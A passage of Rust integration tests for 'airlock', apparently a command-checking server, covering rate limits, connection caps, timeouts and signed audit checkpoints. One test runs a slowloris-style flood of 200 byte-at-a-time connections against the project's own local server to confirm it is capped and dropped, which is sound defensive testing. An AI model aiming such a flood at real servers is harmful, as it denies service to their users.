        .args(["serve", "--tokens", "tokens.toml"])
        .current_dir(dir.path())
        .env("AIRLOCK_STATE_DIR", dir.path().join("elsewhere-state"))
        .output()
        .unwrap();
    // Refused before listening: the state dir is inside too, either is named.
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("is inside the workspace"), "{err}");
    assert!(!dir.path().join("elsewhere-state/airlock.sock").exists());
}

/// Issue 12: `/v1/check` is bounded like `/v1/run`. One check slot and no queue:
/// a burst gets 429 with Retry-After for what does not fit, every other check
/// is answered, and each answered check is exactly one decision record.
#[test]
fn checks_past_their_slots_get_429_with_retry_after() {
    let server = Server::start(&[
        "--tokens",
        "tokens.toml",
        "--check-concurrency",
        "1",
        "--check-queue",
        "0",
    ]);
    let (ok, busy) = rt().block_on(async {
        let mut tasks = Vec::new();
        for i in 0..40 {
            let sock = server.socket.clone();
            tasks.push(tokio::spawn(async move {
                let body = format!(r#"{{"command":"ls && echo {i} && cat data.csv | head -n 1"}}"#);
                request(
                    Target::Unix(&sock),
                    "POST",
                    "/v1/check",
                    Some(TOKEN_A),
                    Some(&body),
                )
                .await
            }));
        }
        let (mut ok, mut busy) = (0, 0);
        for t in tasks {
            let r = t.await.unwrap();
            match r.status {
                200 => ok += 1,
                429 => {
                    assert_eq!(r.json()["code"], "queue_full");
                    assert_eq!(r.headers.get("retry-after").unwrap(), "1");
                    busy += 1;
                }
                other => panic!("unexpected {other}: {}", String::from_utf8_lossy(&r.body)),
            }
        }
        (ok, busy)
    });
    assert!(
        busy > 0,
        "40 concurrent checks through one slot: some must be refused"
    );
    assert!(ok > 0);
    let decisions = audit_records(&server.state())
        .into_iter()
        .filter(|r| r["kind"] == "decision" && r["operation"] == "check")
        .count();
    assert_eq!(
        decisions, ok,
        "one record per answered check, none for refused ones"
    );
}

/// A TCP connection to `addr` from the loopback source address `from`.
async fn connect_from(from: &str, addr: &str) -> tokio::net::TcpStream {
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    socket.bind(format!("{from}:0").parse().unwrap()).unwrap();
    socket.connect(addr.parse().unwrap()).await.unwrap()
}

/// What the server sends within `wait`, and whether it closed the connection.
async fn read_for(stream: &mut tokio::net::TcpStream, wait: Duration) -> (Vec<u8>, bool) {
    use tokio::io::AsyncReadExt;
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    let deadline = tokio::time::Instant::now() + wait;
    loop {
        match tokio::time::timeout_at(deadline, stream.read(&mut buf)).await {
            Err(_) => return (got, false),
            Ok(Ok(0)) | Ok(Err(_)) => return (got, true),
            Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
        }
    }
}

fn rt_multi() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap()
}

/// Finding 3: 200 connections from one peer send a request head a byte at a
/// time. The per-peer cap holds 150 and answers the other 50 at once with 503
/// `too_many_connections`; a normal client on the unix socket gets every answer
/// within 100 ms meanwhile; at the header timeout the server closes all 150.
/// Without the header timeout they would be held for as long as they dawdle.
#[test]
fn slow_clients_are_capped_and_dropped_while_others_are_served() {
    let addr = format!("127.0.0.1:{}", free_port());
    let server = Server::start(&[
        "--tokens",
        "tokens.toml",
        "--listen",
        &addr,
        "--header-timeout",
        "2",
        "--idle-timeout",
        "30",
        "--max-connections",
        "400",
        "--max-connections-per-peer",
        "150",
    ]);
    rt_multi().block_on(async {
        use tokio::io::AsyncWriteExt;
        let started = tokio::time::Instant::now();
        let mut slow = Vec::new();
        for _ in 0..200 {
            let stream = connect_from("127.0.0.3", &addr).await;
            slow.push(tokio::spawn(async move {
                let mut stream = stream;
                let head = b"POST /v1/check HTTP/1.1\r\nhost: localhost\r\nx-slow: ";
                for (i, byte) in head.iter().cycle().enumerate().take(600) {
                    if stream.write_all(&[*byte]).await.is_err() {
                        return (tokio::time::Instant::now(), Vec::new());
                    }
                    if i % 4 == 0 {
                        // The server's answer (a refusal) or its close ends it.
                        let (got, closed) = read_for(&mut stream, Duration::from_millis(100)).await;
                        if closed || !got.is_empty() {
                            return (tokio::time::Instant::now(), got);
                        }
                    }
                }
                (
                    tokio::time::Instant::now(),
                    b"still open after a minute".to_vec(),
                )
            }));
        }
        // A normal client on the unix socket, while the slow ones are held
        // (every loopback address is their peer: TCP is theirs up to the cap).
        let mut worst = Duration::ZERO;
        for i in 0..20 {
            let t = std::time::Instant::now();
            let r = request(Target::Unix(&server.socket), "GET", "/healthz", None, None).await;
            assert_eq!(r.status, 200);
            if i % 5 == 0 {
                let body = r#"{"command":"ls"}"#;
                let c = request(
                    Target::Unix(&server.socket),
                    "POST",
                    "/v1/check",
                    Some(TOKEN_A),
                    Some(body),
                )
                .await;
                assert_eq!(c.status, 200, "{}", String::from_utf8_lossy(&c.body));
            }
            worst = worst.max(t.elapsed());
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        // Starvation would show as an answer only once the slow clients are
        // dropped (the 2 s header timeout); the bound sits well below that and
        // well above scheduling noise on a loaded 2-core machine. Latency
        // itself is measured in bench/interfaces, not here.
        assert!(
            worst < Duration::from_millis(1000),
            "slowest answer to the normal client: {worst:?}"
        );
        let (mut refused, mut closed) = (0, 0);
        for task in slow {
            let (at, got) = task.await.unwrap();
            let got = String::from_utf8_lossy(&got).into_owned();
            if got.starts_with("HTTP/1.1 503") {
                assert!(
                    got.contains("too_many_connections") && got.contains("retry-after: 1"),
                    "{got}"
                );
                assert!(
                    at - started < Duration::from_secs(2),
                    "refused at once, not after a wait"
                );
                refused += 1;
            } else {
                assert!(
                    got.is_empty(),
                    "a held connection is closed without an answer: {got}"
                );
                let held = at - started;
                assert!(
                    held >= Duration::from_millis(1800) && held < Duration::from_secs(6),
                    "closed after {held:?}"
                );
                closed += 1;
            }
        }
        assert_eq!((refused, closed), (50, 150));
        let metrics = request(
            Target::Unix(&server.socket),
            "GET",
            "/metrics",
            Some(TOKEN_A),
            None,
        )
        .await;
        let text = String::from_utf8_lossy(&metrics.body).into_owned();
        assert!(text.contains("airlock_connections_refused 50\n"), "{text}");
    });
}

/// The idle keep-alive timeout is its own: a kept-alive connection survives a
/// pause longer than the header timeout, and is closed after the idle one. A
/// body that does not arrive in time is a 408 and the connection closes.
/// (Only a caller with a valid token is kept alive at all.)
#[test]
fn idle_keepalive_and_body_timeouts() {
    let addr = format!("127.0.0.1:{}", free_port());
    let _server = Server::start(&[
        "--tokens",
        "tokens.toml",
        "--listen",
        &addr,
        "--header-timeout",
        "1",
        "--idle-timeout",
        "3",
        "--body-timeout",
        "1",
    ]);
    rt_multi().block_on(async {
        use tokio::io::AsyncWriteExt;
        let get = format!(
            "GET /healthz HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {TOKEN_A}\r\n\r\n"
        );
        let get = get.as_bytes();
        let mut c = connect_from("127.0.0.2", &addr).await;
        c.write_all(get).await.unwrap();
        let (got, closed) = read_for(&mut c, Duration::from_millis(500)).await;
        assert!(got.starts_with(b"HTTP/1.1 200") && !closed, "kept alive");
        tokio::time::sleep(Duration::from_millis(1500)).await;
        // Past the header timeout, within the idle one: still served.
        c.write_all(get).await.unwrap();
        let t = std::time::Instant::now();
        let (got, _) = read_for(&mut c, Duration::from_millis(500)).await;
        assert!(got.starts_with(b"HTTP/1.1 200"), "{}", String::from_utf8_lossy(&got));
        let (_, closed) = read_for(&mut c, Duration::from_secs(6)).await;
        assert!(closed, "closed when idle");
        assert!(t.elapsed() >= Duration::from_millis(2500), "idle close after {:?}", t.elapsed());

        let mut b = connect_from("127.0.0.2", &addr).await;
        let head = format!(
            "POST /v1/check HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 100\r\nauthorization: Bearer {TOKEN_A}\r\n\r\n{{\"command\":"
        );
        b.write_all(head.as_bytes()).await.unwrap();
        let (answer, closed) = read_for(&mut b, Duration::from_secs(5)).await;
        let answer = String::from_utf8_lossy(&answer).into_owned();
        assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
        assert!(answer.contains("request_timeout") && closed, "{answer}");
    });
}

/// One local user cannot take every connection: the loopback addresses are
/// one peer (a user binding 127.0.0.2, .3, ... gets one per-peer cap, not one
/// each), TCP cannot fill the unix socket's places, and without a valid token
/// a connection is closed after each answer, `/healthz` included, so it cannot
/// be kept open by a cheap request now and then.
#[test]
fn one_local_user_cannot_take_every_connection() {
    let addr = format!("127.0.0.1:{}", free_port());
    let server = Server::start(&[
        "--tokens",
        "tokens.toml",
        "--listen",
        &addr,
        "--max-connections",
        "2",
        "--max-connections-per-peer",
        "2",
    ]);
    rt_multi().block_on(async {
        use tokio::io::AsyncWriteExt;
        let authed = format!(
            "GET /healthz HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {TOKEN_A}\r\n\r\n"
        );
        // Two kept-alive connections from two loopback addresses.
        let mut held = Vec::new();
        for from in ["127.0.0.2", "127.0.0.3"] {
            let mut c = connect_from(from, &addr).await;
            c.write_all(authed.as_bytes()).await.unwrap();
            let (got, closed) = read_for(&mut c, Duration::from_millis(500)).await;
            assert!(got.starts_with(b"HTTP/1.1 200") && !closed, "kept alive");
            held.push(c);
        }
        // A third address is the same peer: over the per-peer cap.
        let mut third = connect_from("127.0.0.4", &addr).await;
        let (got, closed) = read_for(&mut third, Duration::from_secs(2)).await;
        let got = String::from_utf8_lossy(&got).into_owned();
        assert!(got.starts_with("HTTP/1.1 503") && closed, "{got}");
        assert!(
            got.contains("too_many_connections")
                && got.contains("loopback")
                && got.contains("--max-connections-per-peer"),
            "{got}"
        );

        // The unix socket has its own places: TCP at its cap leaves it
        // untouched...
        let r = request(Target::Unix(&server.socket), "GET", "/healthz", None, None).await;
        assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
        tokio::time::sleep(Duration::from_millis(200)).await;
        // ... and the unix socket at its cap leaves TCP untouched.
        let mut unix_held = Vec::new();
        for _ in 0..2 {
            let mut u = tokio::net::UnixStream::connect(&server.socket)
                .await
                .unwrap();
            u.write_all(authed.as_bytes()).await.unwrap();
            let mut got = [0u8; 12];
            tokio::io::AsyncReadExt::read_exact(&mut u, &mut got)
                .await
                .unwrap();
            assert_eq!(&got, b"HTTP/1.1 200");
            unix_held.push(u);
        }
        drop(held.pop());
        tokio::time::sleep(Duration::from_millis(200)).await;
        let mut c = connect_from("127.0.0.5", &addr).await;
        c.write_all(authed.as_bytes()).await.unwrap();
        let (got, closed) = read_for(&mut c, Duration::from_millis(500)).await;
        assert!(
            got.starts_with(b"HTTP/1.1 200") && !closed,
            "{}",
            String::from_utf8_lossy(&got)
        );
        drop(c);
        tokio::time::sleep(Duration::from_millis(200)).await;

        // Without a valid token, every answer closes the connection.
        let anonymous = [
            "GET /healthz HTTP/1.1\r\nhost: localhost\r\n\r\n".to_string(),
            "GET /openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n".to_string(),
            "GET /metrics HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer nope\r\n\r\n"
                .to_string(),
        ];
        for req in anonymous {
            let mut c = connect_from("127.0.0.6", &addr).await;
            c.write_all(req.as_bytes()).await.unwrap();
            let (got, closed) = read_for(&mut c, Duration::from_secs(2)).await;
            let got = String::from_utf8_lossy(&got).into_owned();
            assert!(got.starts_with("HTTP/1.1 "), "{req}: {got}");
            assert!(
                got.contains("connection: close\r\n") && closed,
                "{req}: {got}"
            );
            // Its place is given back as the server closes.
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    });
}

/// The server signs audit checkpoints on its timer and once more at shutdown,
/// with the operator key from the environment; `audit verify --key` accepts the
/// result.
#[test]
fn serve_signs_audit_checkpoints_on_a_timer_and_at_shutdown() {
    let dir = layout();
    let keys = tempfile::tempdir().unwrap();
    let key = keys.path().join("audit.pem");
    let o = std::process::Command::new(bin())
        .args(["audit", "keygen", "--out", key.to_str().unwrap()])
        .env("AIRLOCK_STATE_DIR", dir.path().join("state"))
        .output()
        .unwrap();
    assert!(o.status.success(), "{o:?}");
    let mut server = Server::start_with_env(
        dir,
        &["--tokens", "tokens.toml"],
        &[
            ("AIRLOCK_AUDIT_SIGNING_KEY", key.as_os_str()),
            (
                "AIRLOCK_AUDIT_CHECKPOINT_INTERVAL",
                std::ffi::OsStr::new("1s"),
            ),
        ],
    );
    rt().block_on(async {
        for _ in 0..3 {
            let r = request(
                Target::Unix(&server.socket),
                "POST",
                "/v1/check",
                Some(TOKEN_A),
                Some(r#"{"command":"ls"}"#),
            )
            .await;
            assert_eq!(r.status, 200);
            tokio::time::sleep(Duration::from_millis(700)).await;
        }
    });
    let (status, err) = server.stop();
    assert!(status.success(), "{err}");
    let kinds: Vec<String> = audit_records(&server.state())
        .iter()
        .map(|r| r["kind"].as_str().unwrap().to_string())
        .collect();
    assert!(
        kinds.iter().filter(|k| *k == "checkpoint").count() >= 2,
        "{kinds:?}"
    );
    assert_eq!(
        kinds.last().map(String::as_str),
        Some("checkpoint"),
        "the last word is a signature: {kinds:?}"
    );
    let o = std::process::Command::new(bin())
        .args([
            "audit",
            "verify",
            "--key",
            keys.path().join("audit.pem.pub").to_str().unwrap(),
        ])
        .env("AIRLOCK_STATE_DIR", server.state())
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    assert!(String::from_utf8_lossy(&o.stdout).contains("anchored through"));
}
